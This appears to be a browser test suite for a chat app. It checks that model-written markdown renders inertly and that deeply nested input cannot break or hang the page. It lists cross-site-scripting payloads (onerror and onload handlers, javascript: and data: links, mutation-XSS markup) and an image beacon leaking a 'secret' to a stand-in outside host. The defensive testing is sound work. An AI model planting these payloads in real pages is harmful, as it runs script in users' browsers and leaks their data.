"""What a model writes is text: it is laid out, and never becomes script, style or a request."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from chat.models import Message
from chat.wire import text_part
from tests.browser.conftest import Visit, Watch
from tests.browser.steps import ask, copy_with, last_text, wait_until_idle
from tests.upstream.server import ScriptedServer
from tests.world import World

ATTACKS = [
    "<img src=x onerror=\"window.hit='img'\">",
    "<script>window.hit='script'</script>",
    "<svg onload=\"window.hit='svg'\"></svg>",
    "<iframe srcdoc=\"<script>parent.hit='frame'</script>\"></iframe>",
    "[click](javascript:window.hit='link')",
    "[click](JaVaScRiPt&colon;window.hit='entity')",
    "[click](data:text/html,<script>window.hit='data'</script>)",
    "<a href=\"javascript:window.hit='a'\">click</a>",
    "![x](https://outside.example/leak.png?secret=1)",
    "![x](javascript:window.hit='image')",
    "<style>body{display:none}</style>",
    '<form action="https://outside.example/"><input name=q></form>',
    "[a]: javascript:window.hit='ref'\n\n[a]",
    "$\\href{javascript:window.hit='math'}{x}$",
    "`<img src=x onerror=window.hit=1>`",
    '```html"><img src=x onerror=window.hit=1>\ncode\n```',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<https://outside.example/\"onmouseover=window.hit='auto'>",
]


BAD = "script, img, iframe, style, form, input, object, svg:not(.icon), [onerror], [onload]"
# Draws a text with the page's own code as it would grow, and returns its places.
DRAW = """async ([text, size]) => {
    const links = [...document.querySelectorAll("link[rel=modulepreload]")];
    const { href } = links.find((link) => /chat.markdown[.]/.test(link.href));
    const { Markdown } = await import(href);
    const place = document.createElement("div");
    place.className = "prose attack";
    document.getElementById("messages").append(place);
    const markdown = new Markdown(place);
    for (let end = size; end < text.length; end += size) markdown.update(text.slice(0, end), false);
    markdown.update(text, true);
    for (const link of place.querySelectorAll("a")) link.dispatchEvent(new Event("mouseover"));
    return [...place.querySelectorAll("a")].map((link) => link.protocol);
}"""


DEEP = {
    "quotes": ">" * 2_000 + " deep",
    "quotes that go on": ">" * 2_000 + " deep\nlazy\nlines",
    "quotes in many lines": ("> " * 2_000 + "deep\nlazy\n") * 3,
    "lists in one line": "- " * 2_000 + "deep\nlazy",
    "lists by indentation": "\n".join("  " * level + "- deep" for level in range(300)),
    "quotes and lists": "> - " * 1_000 + "deep\nlazy\n> more",
    "numbers": "1. " * 2_000 + "deep",
    "stars": "*a " * 2_000 + "deep" + "*" * 2_000,
    "emphasis": "*a **b " * 1_000 + "deep" + "c** d*" * 1_000,
    "underscores": "_a " * 20_000 + "deep" + "b_" * 20_000,
    "struck out": "~~a " * 2_000 + "deep" + "b~~" * 2_000,
    "brackets": "[" * 2_000 + "deep",
    "links": "[" * 2_000 + "deep" + "](https://example.com/)" * 2_000,
    "pictures": "![" * 2_000 + "deep" + "](https://example.com/)" * 2_000,
    "groups of a formula": "$$\n" + "{" * 3_000 + "deep" + "}" * 3_000 + "\n$$",
    "open groups of a formula": "$$" + "{" * 3_000 + "deep$$",
    "roots": "$$\n" + "\\sqrt{" * 400 + "deep" + "}" * 400 + "\n$$",
    "fractions without groups": "$$\n" + "\\frac" * 3_000 + "deep\n$$",
    "styles of a formula": "$$\n" + "\\displaystyle " * 3_000 + "deep\n$$",
    "signs of formulas": "\\(" * 20_000 + "deep",
    "addresses": "a." * 20_000 + "@deep",
    "a long line": "word " * 20_000 + "deep",
    "a word without an end": "x" * 100_000 + "deep",
    "elements": "<div>" * 2_000 + "deep",
    "cells": "|" * 2_000 + "\n" + "|-" * 2_000 + "|\n" + "|deep" * 2_000 + "|",
}
# Levels of elements in one another, which the browser's layout follows one by one.
DEPTH = """() => {
    let deepest = 0;
    const open = [[document.getElementById("messages"), 0]];
    while (open.length) {
        const [node, depth] = open.pop();
        deepest = Math.max(deepest, depth);
        for (const child of node.children) open.push([child, depth + 1]);
    }
    return deepest;
}"""


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_what_nests_too_deeply_hides_no_other_message(
    world: World, visit: Visit, text: str
) -> None:
    thread = world.acme.threads["bob"]
    with world.acme.scope():
        for position, said in enumerate((text, "After $x^2$ it."), start=3):
            Message.objects.create(
                thread=thread, position=position, role="assistant", content=[text_part(said)]
            )
    page = visit(world.acme, "bob", f"/threads/{thread.pk}")
    expect(last_text(page).locator(".katex").first).to_be_visible()
    expect(last_text(page)).to_contain_text("it.")
    expect(page.locator("article.answer .prose").nth(-2)).to_contain_text("deep")
    assert page.evaluate(DEPTH) < 600


@pytest.mark.parametrize(
    "name", ["quotes that go on", "lists in one line", "emphasis", "open groups of a formula"]
)
def test_what_nests_too_deeply_stops_no_growing_answer(
    world: World, model: ScriptedServer, visit: Visit, name: str
) -> None:
    text = DEEP[name]
    pieces = tuple(text[at : at + 500] for at in range(0, len(text), 500))
    model.expect(say=(*pieces, "\n\nThe **end**."), pace=0.01)
    model.expect(say=("Next $x^2$ answer.",))
    page = visit(world.acme, "alice")
    ask(page, "Deep")
    expect(last_text(page)).to_contain_text("deep")
    wait_until_idle(page)
    expect(last_text(page).locator("strong")).to_have_text("end")
    ask(page, "And now?")
    expect(last_text(page)).to_contain_text("answer.")
    expect(last_text(page).locator(".katex").first).to_be_visible()


# Breaks the parser of a text that holds a certain word, as an error in a library would.
BROKEN = """() => {
    const exec = RegExp.prototype.exec;
    RegExp.prototype.exec = function (text) {
        if (String(text).includes("BREAK")) throw new Error("broken on purpose");
        return exec.call(this, text);
    };
}"""


def test_a_text_that_cannot_be_laid_out_is_shown_as_it_is(
    world: World, visit: Visit, watch: Watch
) -> None:
    watch.allowed.append("broken on purpose")
    thread = world.acme.threads["bob"]
    with world.acme.scope():
        for position, said in enumerate(("**BREAK** <b>\n- one", "**After** it."), start=3):
            Message.objects.create(
                thread=thread, position=position, role="assistant", content=[text_part(said)]
            )
    page = visit(world.acme, "bob")
    page.evaluate(BROKEN)
    page.locator("#threads a").first.click()
    expect(last_text(page).locator("strong")).to_have_text("After")
    plain = page.locator("article.answer .prose").nth(-2)
    assert plain.evaluate("node => node.innerText") == "**BREAK** <b>\n- one"
    assert any("broken on purpose" in problem for problem in watch.problems)


@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_markup_of_a_model_is_inert(world: World, visit: Visit, size: int) -> None:
    page = visit(world.acme, "alice")
    expect(page.locator("#welcome")).to_be_visible()
    for attack in ATTACKS:
        protocols = page.evaluate(DRAW, [f"{attack}\n\nThe end.", size])
        assert set(protocols) <= {"https:"}, attack
        assert page.locator(".attack").locator(BAD).count() == 0, attack
        assert page.locator(".attack [style]:not(.katex *)").count() == 0, attack
        assert page.evaluate("window.hit") is None, attack
    expect(page.locator(".attack").last).to_contain_text("The end.")


def test_an_attack_through_the_whole_way_is_inert(
    world: World, model: ScriptedServer, visit: Visit
) -> None:
    model.expect(say=tuple(f"{attack}\n\n" for attack in ATTACKS[:9]))
    page = visit(world.acme, "alice")
    ask(page, "<img src=x onerror=window.hit=1>")
    wait_until_idle(page)
    assert page.locator("#messages").locator(BAD).count() == 0
    page.reload()
    expect(last_text(page)).to_contain_text("window.hit='img'")
    assert page.locator("#messages").locator(BAD).count() == 0
    assert page.evaluate("window.hit") is None


def test_links_open_apart_and_name_no_opener(
    world: World, model: ScriptedServer, visit: Visit
) -> None:
    model.expect(say=("See [the manual](https://example.com/manual).",))
    page = visit(world.acme, "alice")
    ask(page, "Where?")
    link = page.get_by_role("link", name="the manual")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_code_has_its_language_colours_and_a_copy_button(
    world: World, model: ScriptedServer, visit: Visit
) -> None:
    model.expect(
        say=(
            "```sql\nSELECT",
            " 1;\n```\n",
        ),
        pace=0.05,
    )
    page = visit(world.acme, "alice", permissions=["clipboard-read", "clipboard-write"])
    ask(page, "Code")
    block = page.locator(".code-block")
    expect(block.locator(".code-head")).to_contain_text("sql")
    expect(block.locator(".hljs-keyword")).to_have_text("SELECT")
    expect(block).to_contain_text("SELECT 1;")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    assert copy_with(block.get_by_role("button", name="Copy")) == "SELECT 1;"


def test_tables_lists_and_formulas_are_laid_out(
    world: World, model: ScriptedServer, visit: Visit
) -> None:
    text = "| a | b |\n|--|--|\n| 1 | 2 |\n\n- one\n- two\n\n$$\nx^2\n$$\n\nIt costs $5 and $6.\n"
    model.expect(say=tuple(text[at : at + 5] for at in range(0, len(text), 5)), pace=0.01)
    page = visit(world.acme, "alice")
    ask(page, "Show all")
    wait_until_idle(page)
    expect(last_text(page).locator("td")).to_have_text(["1", "2"])
    expect(last_text(page).locator("li")).to_have_text(["one", "two"])
    expect(last_text(page).locator(".katex-display")).to_have_count(1)
    expect(last_text(page).locator(".block").last).to_have_text("It costs $5 and $6.")


def test_growing_and_finished_markdown_look_alike(
    world: World, model: ScriptedServer, visit: Visit
) -> None:
    text = (
        "# Title\n\nSome *text* with `code`.\n\n## Part\n\n1. one\n\n   more\n\n2. two\n\n"
        "> quoted\n\n```python\nx = 1\n\ny = 2\n```\n\nA [link][1].\n\n[1]: https://example.com/\n"
    )
    model.expect(say=tuple(text[at : at + 3] for at in range(0, len(text), 3)), pace=0.005)
    page = visit(world.acme, "alice")
    ask(page, "Write")
    wait_until_idle(page)
    expect(page.locator(".hljs-number")).to_have_count(2)
    grown = last_text(page).inner_html()
    page.reload()
    expect(page.locator(".hljs-number")).to_have_count(2)
    assert last_text(page).inner_html() == grown


def test_a_message_of_a_person_stays_as_typed(
    world: World, model: ScriptedServer, visit: Visit
) -> None:
    model.expect(say=("Fine.",))
    page = visit(world.acme, "alice")
    ask(page, "<b>bold?</b> **no** &amp;")
    expect(page.locator(".own-text")).to_have_text("<b>bold?</b> **no** &amp;")
    expect(last_text(page)).to_have_text("Fine.")
